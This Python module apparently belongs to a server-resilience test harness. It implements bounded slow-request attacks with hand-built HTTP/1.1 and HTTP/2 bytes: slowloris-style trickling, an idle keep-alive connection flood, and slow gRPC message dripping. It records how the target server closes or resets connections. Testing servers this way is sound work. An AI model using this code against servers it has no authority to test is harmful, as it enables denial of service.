"""Raw-socket attackers (HTTP/1.1 and HTTP/2 bytes written by hand, no client library that would
fix them up): trickling connections, an idle keep-alive flood, one-shot exchanges that record the
answer and when the server closed, and the few HTTP/2 frames the gRPC attacks need.

Every attacker is bounded in connections and time and closes every socket it opened.
"""

from __future__ import annotations

import errno
import selectors
import socket
import struct
import time
from dataclasses import dataclass, field

ANSWER_KEEP = 4096  # bytes of an answer kept for the record


def split(address: str) -> tuple[str, int]:
    host, _, port = address.rpartition(":")
    return host.strip("[]"), int(port)


def status_of(data: bytes) -> int | None:
    """The status code of the first HTTP/1.x status line in `data`, or None."""
    if not data.startswith(b"HTTP/1."):
        return None
    parts = data.split(b"\r\n", 1)[0].split(b" ")
    return int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else None


@dataclass
class Conn:
    """One attacking connection's record (times in seconds since `opened`)."""

    sock: socket.socket | None
    opened: float
    answer: bytes = b""
    closed_after: float | None = None
    how: str = ""  # "eof" (FIN), "reset", "send failed", "" (we closed it)
    sent: int = 0

    @property
    def status(self) -> int | None:
        return status_of(self.answer)

    def close(self, now: float | None, how: str) -> None:
        if self.sock is not None:
            self.sock.close()
            self.sock = None
            if now is not None:
                self.closed_after, self.how = now - self.opened, how


def _connect(address: str, timeout_s: float = 5.0) -> socket.socket:
    sock = socket.create_connection(split(address), timeout=timeout_s)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def _read_into(conn: Conn, now: float) -> None:
    try:
        data = conn.sock.recv(65536)
    except (BlockingIOError, InterruptedError):
        return
    except OSError as e:
        conn.close(now, "reset" if e.errno == errno.ECONNRESET else "error: %s" % e.strerror)
        return
    if not data:
        conn.close(now, "eof")
    elif len(conn.answer) < ANSWER_KEEP:
        conn.answer += data[: ANSWER_KEEP - len(conn.answer)]


def trickle(address: str, n: int, head: bytes, drip: bytes, window_s: float, interval_s: float = 1.0) -> list[Conn]:
    """Open `n` connections, send `head` on each at once, then one byte of `drip` per connection
    every `interval_s`; record answers and closes until every connection is closed or `window_s`
    has passed since the last one opened. What is still open then is closed by us (closed_after
    None)."""
    conns: list[Conn] = []
    sel = selectors.DefaultSelector()
    try:
        for _ in range(n):
            sock = _connect(address)
            conn = Conn(sock, time.monotonic())
            if head:
                sock.sendall(head)
                conn.sent += len(head)
            sock.setblocking(False)
            sel.register(sock, selectors.EVENT_READ, conn)
            conns.append(conn)
        end = time.monotonic() + window_s
        next_tick = time.monotonic() + interval_s
        while any(c.sock is not None for c in conns):
            now = time.monotonic()
            if now >= end:
                break
            for key, _ in sel.select(max(0.0, min(next_tick, end) - now)):
                conn = key.data
                sock = conn.sock
                _read_into(conn, time.monotonic())
                if conn.sock is None:
                    sel.unregister(sock)
            now = time.monotonic()
            if now >= next_tick:
                next_tick += interval_s
                for conn in conns:
                    i = conn.sent - len(head)
                    if conn.sock is None or i >= len(drip):
                        continue
                    try:
                        conn.sock.send(drip[i : i + 1])
                        conn.sent += 1
                    except (BlockingIOError, InterruptedError):
                        pass
                    except OSError:
                        sock = conn.sock
                        sel.unregister(sock)
                        conn.close(now, "send failed")
    finally:
        for conn in conns:
            if conn.sock is not None:
                try:
                    sel.unregister(conn.sock)
                except (KeyError, ValueError):
                    pass
                conn.close(None, "")
        sel.close()
    return conns


@dataclass
class IdleConn:
    sock: socket.socket | None
    opened: float
    buf: bytes = b""
    status: int | None = None
    idle_at: float | None = None  # when its answer was complete
    closed_at: float | None = None
    how: str = ""
    error: str = ""


def _response_complete(buf: bytes) -> bool:
    head, sep, body = buf.partition(b"\r\n\r\n")
    if not sep:
        return False
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            return len(body) >= int(value.strip())
    return True


def idle_flood(address: str, n: int, request: bytes, window_s: float, max_s: float, wave: int = 50):
    """Open `n` keep-alive connections (at most `wave` being set up at once: with 250, granian
    needed 4-13 s, not 1 s, to answer the 2,000 requests), send `request` on
    each, read its answer, then leave it idle and record when the server closes it. Stops when all
    are closed, `window_s` after the last one went idle, or after `max_s`. Returns (connections,
    peak number idle at once, time.time() when the last answer came)."""
    sel = selectors.DefaultSelector()
    conns: list[IdleConn] = []
    host, port = split(address)
    busy, idle, peak, peak_at = 0, 0, 0, None
    started = time.monotonic()
    last_idle = None
    try:
        while True:
            now = time.monotonic()
            while busy < wave and len(conns) < n:
                sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                sock.setblocking(False)
                conn = IdleConn(sock, now)
                err = sock.connect_ex((host, port))
                if err not in (0, errno.EINPROGRESS):
                    conn.error = errno.errorcode.get(err, str(err))
                    sock.close()
                    conn.sock = None
                    conns.append(conn)
                    continue
                sel.register(sock, selectors.EVENT_WRITE, conn)
                conns.append(conn)
                busy += 1
            open_ = busy + idle
            if open_ == 0 and len(conns) >= n:
                break
            if now - started > max_s or (last_idle is not None and busy == 0 and now - last_idle > window_s):
                break
            for key, mask in sel.select(0.05):
                conn = key.data
                sock = conn.sock
                now = time.monotonic()
                if mask & selectors.EVENT_WRITE:
                    err = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                    if err:
                        conn.error = errno.errorcode.get(err, str(err))
                    else:
                        try:
                            sock.send(request)
                            sel.modify(sock, selectors.EVENT_READ, conn)
                            continue
                        except OSError as e:
                            conn.error = e.strerror or str(e)
                    sel.unregister(sock)
                    sock.close()
                    conn.sock = None
                    busy -= 1
                    continue
                try:
                    data = sock.recv(65536)
                except (BlockingIOError, InterruptedError):
                    continue
                except OSError as e:
                    data, conn.how = b"", "reset" if e.errno == errno.ECONNRESET else e.strerror
                if data and conn.idle_at is None:
                    conn.buf += data
                    if _response_complete(conn.buf):
                        conn.status = status_of(conn.buf)
                        conn.idle_at = last_idle = now
                        busy, idle = busy - 1, idle + 1
                        peak, peak_at = max(peak, idle), time.time()
                    continue
                if data:
                    continue  # bytes on an idle connection: ignored (the server may send a 408)
                sel.unregister(sock)
                sock.close()
                conn.sock = None
                conn.closed_at = now
                conn.how = conn.how or "eof"
                if conn.idle_at is None:
                    busy -= 1
                    conn.error = conn.error or "closed before the answer"
                else:
                    idle -= 1
    finally:
        for conn in conns:
            if conn.sock is not None:
                try:
                    sel.unregister(conn.sock)
                except (KeyError, ValueError):
                    pass
                conn.sock.close()
                conn.sock = None
        sel.close()
    return conns, peak, peak_at


@dataclass
class Exchange:
    """One request sent on a fresh connection: the answer and whether the server closed it."""

    status: int | None = None
    head: bytes = b""
    body: bytes = b""
    answered_after: float | None = None  # seconds after the request was written
    closed: bool = False
    closed_after_answer: float | None = None  # seconds from the answer to the close
    how: str = ""
    send_error: str = ""
    headers: dict = field(default_factory=dict)


def exchange(address: str, payload: bytes, answer_timeout_s: float = 5.0, close_wait_s: float = 2.0) -> Exchange:
    """Send `payload` on a new connection, read one answer (by Content-Length), then wait up to
    `close_wait_s` for the server to close the connection."""
    out = Exchange()
    sock = _connect(address)
    try:
        try:
            sock.sendall(payload)
        except OSError as e:  # the server may refuse and close before reading everything
            out.send_error = e.strerror or str(e)
        written = time.monotonic()
        buf = b""
        deadline = written + answer_timeout_s
        while True:
            if b"\r\n\r\n" in buf and _response_complete(buf) and out.answered_after is None:
                out.answered_after = time.monotonic() - written
                deadline = time.monotonic() + close_wait_s
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                break
            sock.settimeout(remaining)
            try:
                data = sock.recv(65536)
            except TimeoutError:
                break
            except OSError as e:
                out.closed, out.how = True, "reset" if e.errno == errno.ECONNRESET else e.strerror
                break
            if not data:
                out.closed, out.how = True, "eof"
                break
            buf += data
        if out.closed and out.answered_after is not None:
            out.closed_after_answer = time.monotonic() - written - out.answered_after
        elif out.closed and buf and out.answered_after is None:
            out.answered_after = time.monotonic() - written  # an answer cut short, or without a length
            out.closed_after_answer = 0.0
        head, _, body = buf.partition(b"\r\n\r\n")
        out.head, out.body, out.status = head, body, status_of(buf)
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            out.headers[name.strip().lower().decode("latin-1")] = value.strip().decode("latin-1")
    finally:
        sock.close()
    return out


# --- HTTP/2, just enough to speak gRPC badly -------------------------------------------------------

H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x8, 0x7
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def h2_frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _hpack_int(value: int, prefix_bits: int = 7) -> bytes:
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([value])
    out, value = bytearray([limit]), value - limit
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal(headers: list[tuple[str, str]]) -> bytes:
    """A header block of literal fields without indexing, no Huffman: valid for any decoder."""
    out = bytearray()
    for name, value in headers:
        out.append(0)
        for text in (name.encode(), value.encode()):
            out += _hpack_int(len(text)) + text
    return bytes(out)


def client_start() -> bytes:
    """What a client sends first: the preface, empty SETTINGS, and the ACK of the server's SETTINGS
    (sent unread: a server waits for it before it counts its own settings as in force)."""
    return H2_PREFACE + h2_frame(SETTINGS, 0, 0) + h2_frame(SETTINGS, ACK, 0)


def grpc_message(message: bytes) -> bytes:
    """A gRPC length-prefixed message: uncompressed flag, 4-byte length, the bytes."""
    return b"\x00" + struct.pack(">I", len(message)) + message


def grpc_request_frames(stream: int, authority: str, method: str, message: bytes) -> bytes:
    return grpc_request_headers(stream, authority, method) + h2_frame(DATA, END_STREAM, stream, grpc_message(message))


def grpc_request_headers(stream: int, authority: str, method: str) -> bytes:
    """The HEADERS frame opening a gRPC call (no END_STREAM: its message follows)."""
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", method),
        (":authority", authority),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    return h2_frame(HEADERS, END_HEADERS, stream, hpack_literal(headers))


def h2_frames(buf: bytes) -> tuple[list[tuple[int, int, int]], bytes]:
    """The whole frames at the start of `buf` as (type, flags, stream), and what is left."""
    frames = []
    while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
        length = int.from_bytes(buf[:3], "big")
        frames.append((buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF))
        buf = buf[9 + length :]
    return frames, buf


def grpc_slow_messages(
    address: str, method: str, message: bytes, conns: int, calls: int, window_s: float, interval_s: float = 1.0
) -> dict:
    """`conns` HTTP/2 connections, each opening `calls` gRPC calls at once: their HEADERS, then the
    5-byte message prefix and one byte of the message, then one more byte per call every
    `interval_s`, never the last one, until `window_s` has passed; then every socket is closed.
    Records how the server ended the calls meanwhile: streams reset (RST_STREAM), answered
    (HEADERS with END_STREAM: a status), connections closed."""
    assert len(message) > window_s / interval_s + 1, "the message must outlast the window"
    socks: list[socket.socket] = []
    sel = selectors.DefaultSelector()
    bufs: dict[socket.socket, bytes] = {}
    ended: dict[tuple[int, int], str] = {}
    closed, goaway = 0, 0
    sent = 5 + 1
    try:
        for _ in range(conns):
            sock = _connect(address)
            out = client_start()
            for i in range(calls):
                stream = 2 * i + 1
                out += grpc_request_headers(stream, address, method)
                out += h2_frame(DATA, 0, stream, grpc_message(message)[:6])  # prefix + first byte
            sock.sendall(out)
            sock.setblocking(False)
            sel.register(sock, selectors.EVENT_READ, len(socks))
            socks.append(sock)
            bufs[sock] = b""
        end = time.monotonic() + window_s
        next_tick = time.monotonic() + interval_s
        while time.monotonic() < end:
            for key, _ in sel.select(max(0.0, min(next_tick, end) - time.monotonic())):
                sock = key.fileobj
                try:
                    data = sock.recv(65536)
                except (BlockingIOError, InterruptedError):
                    continue
                except OSError:
                    data = b""
                if not data:
                    sel.unregister(sock)
                    closed += 1
                    continue
                frames, bufs[sock] = h2_frames(bufs[sock] + data)
                for kind, flags, stream in frames:
                    if kind == RST_STREAM:
                        ended.setdefault((key.data, stream), "reset")
                    elif kind == HEADERS and flags & END_STREAM:
                        ended.setdefault((key.data, stream), "answered")
                    elif kind == GOAWAY:
                        goaway += 1
            if time.monotonic() >= next_tick and time.monotonic() < end:
                next_tick += interval_s
                at = sent - 5
                for sock in socks:
                    try:
                        sock.send(b"".join(h2_frame(DATA, 0, 2 * i + 1, message[at : at + 1]) for i in range(calls)))
                    except OSError:
                        pass
                sent += 1
    finally:
        for sock in socks:
            sock.close()
        sel.close()
    counts: dict[str, int] = {}
    for how in ended.values():
        counts[how] = counts.get(how, 0) + 1
    return {
        "calls": conns * calls,
        "connections": conns,
        "bytes of each message sent": "%d of %d" % (sent, len(message) + 5),
        "ended by the server": counts,
        "connections closed by the server": closed,
        "GOAWAY": goaway,
    }


def h2_read_until_closed(sock: socket.socket, timeout_s: float) -> tuple[bool, bool, float]:
    """Read frames until the server closes (or `timeout_s`): (closed, saw GOAWAY, seconds)."""
    start, buf, goaway = time.monotonic(), b"", False
    while True:
        remaining = timeout_s - (time.monotonic() - start)
        if remaining <= 0:
            return False, goaway, time.monotonic() - start
        sock.settimeout(remaining)
        try:
            data = sock.recv(65536)
        except TimeoutError:
            return False, goaway, time.monotonic() - start
        except OSError:
            return True, goaway, time.monotonic() - start
        if not data:
            return True, goaway, time.monotonic() - start
        frames, buf = h2_frames(buf + data)
        goaway = goaway or any(kind == GOAWAY for kind, _, _ in frames)
